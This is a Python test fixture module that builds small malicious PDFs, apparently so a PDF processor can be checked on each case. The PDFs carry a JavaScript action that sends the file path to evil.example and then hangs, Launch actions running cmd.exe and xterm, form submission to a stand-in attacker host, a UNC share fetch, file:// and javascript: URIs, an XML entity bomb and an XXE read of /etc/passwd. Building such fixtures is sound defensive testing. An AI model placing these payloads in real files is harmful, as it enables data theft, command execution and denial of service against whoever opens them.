"""Things that would like to be run, opened, sent or unpacked."""

from __future__ import annotations

from tests.hostile import RECORD, ends
from tests.hostile.bombs import HONEST
from tests.small_pdf import small_pdf, stream


def opened_with(action: str, *objects: bytes) -> bytes:
    """A file that wants `action` when it is opened, when its page is, and when somebody clicks."""
    page = f"/AA << /O {action} >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 400 300] /A {action} >>]"
    return small_pdf(HONEST, catalog=f"/OpenAction {action}", page=page, objects=objects)


@ends(RECORD)
def script() -> bytes:
    return opened_with("<< /S /JavaScript /JS (app.launchURL('http://evil.example/' + this.path); while (1) {}) >>")


@ends(RECORD)
def program() -> bytes:
    return opened_with("<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> /Unix (xterm -e id) >>")


@ends(RECORD)
def form_that_sends_itself() -> bytes:
    return opened_with("<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> /Flags 4 >>")


@ends(RECORD)
def address_that_is_a_script() -> bytes:
    return opened_with("<< /S /URI /URI (javascript:alert\\(1\\)) >>")


@ends(RECORD)
def address_of_a_file() -> bytes:
    return opened_with("<< /S /URI /URI (file:///etc/passwd) >>")


@ends(RECORD)
def document_elsewhere() -> bytes:
    return opened_with("<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>")


@ends(RECORD)
def action_after_action() -> bytes:
    """An action whose next is itself."""
    return small_pdf(
        HONEST, catalog="/OpenAction 100 0 R", objects=["<< /S /Named /N /Print /Next [100 0 R 100 0 R] >>"]
    )


@ends(RECORD)
def form_of_xml() -> bytes:
    """An XFA form with a script and an entity that unfolds to a thousand million laughs."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    xml = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{entities}]><xdp><script>&l9;</script></xdp>'
    return small_pdf(HONEST, catalog="/AcroForm << /Fields [] /XFA 100 0 R >>", objects=[stream(xml)])


@ends(RECORD)
def metadata_that_reads_files() -> bytes:
    """XMP with an external entity."""
    xml = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x:xmpmeta>&e;</x:xmpmeta>'
    return small_pdf(HONEST, catalog="/Metadata 100 0 R", objects=[stream(xml, "/Type /Metadata /Subtype /XML")])


@ends(RECORD)
def film_and_sound() -> bytes:
    media = "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets 100 0 R >> >>]"
    return small_pdf(HONEST, page=media, objects=["<< /Names [(x.swf) 101 0 R] >>", stream(b"FWS")])
